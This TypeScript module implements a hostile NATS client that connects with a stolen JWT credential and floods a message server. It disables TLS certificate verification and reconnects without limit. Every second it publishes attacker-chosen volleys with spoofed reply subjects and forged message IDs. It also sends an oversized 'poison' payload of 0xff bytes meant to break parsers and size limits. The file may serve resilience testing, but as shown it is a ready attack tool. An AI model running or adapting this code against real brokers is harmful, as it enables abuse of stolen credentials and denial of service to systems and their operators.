/** A stolen credential on a NATS server, used without any manners: publishes what it likes, where it likes, with any reply it likes. */
import { connect, headers, jwtAuthenticator } from 'nats';
import type { NatsConnection } from 'nats';

export interface StolenCredential {
  readonly natsUrl: string;
  readonly jwt: string;
  readonly seed: string;
}
export interface HostileMessage {
  readonly subject: string;
  readonly payload: unknown;
  /** Where the server is made to answer: the weapon. */
  readonly reply?: string;
  readonly id?: string;
}

const CONNECT_MS = 10_000;
const VOLLEY_EVERY_MS = 1_000;
/** Below the servers' limit, and above it once it has become text three times as long. */
const POISON_BYTES = 900 * 1024;

/** What no reader can parse, and what grows when it is written down as text. */
export const poison = (): Uint8Array => new Uint8Array(POISON_BYTES).fill(0xff);

export class HostileLine {
  private timer: NodeJS.Timeout | undefined;

  private constructor(private readonly connection: NatsConnection) {}

  static async open({ natsUrl, jwt, seed }: StolenCredential): Promise<HostileLine> {
    const connection = await connect({
      servers: natsUrl,
      authenticator: jwtAuthenticator(jwt, new TextEncoder().encode(seed)),
      timeout: CONNECT_MS,
      maxReconnectAttempts: -1,
      // Who attacks does not mind whom it speaks to.
      ...(natsUrl.startsWith('tls:') && { tls: { rejectUnauthorized: false } as object }),
    });
    void connection.closed().catch(() => undefined);
    return new HostileLine(connection);
  }

  /** The same volley every second until it is closed. */
  fire(volley: () => readonly HostileMessage[]): void {
    const once = (): void => {
      for (const message of volley()) this.publish(message);
    };
    once();
    this.timer = setInterval(once, VOLLEY_EVERY_MS);
  }

  async close(): Promise<void> {
    clearInterval(this.timer);
    await this.connection.close();
  }

  private publish({ subject, payload, reply, id }: HostileMessage): void {
    const data = payload instanceof Uint8Array ? payload : new TextEncoder().encode(JSON.stringify(payload));
    const head = headers();
    if (id !== undefined) head.set('Nats-Msg-Id', id);
    try {
      this.connection.publish(subject, data, { headers: head, ...(reply !== undefined && { reply }) });
    } catch {
      // The client itself refuses what is above the server's limit, or the server is away.
    }
  }
}
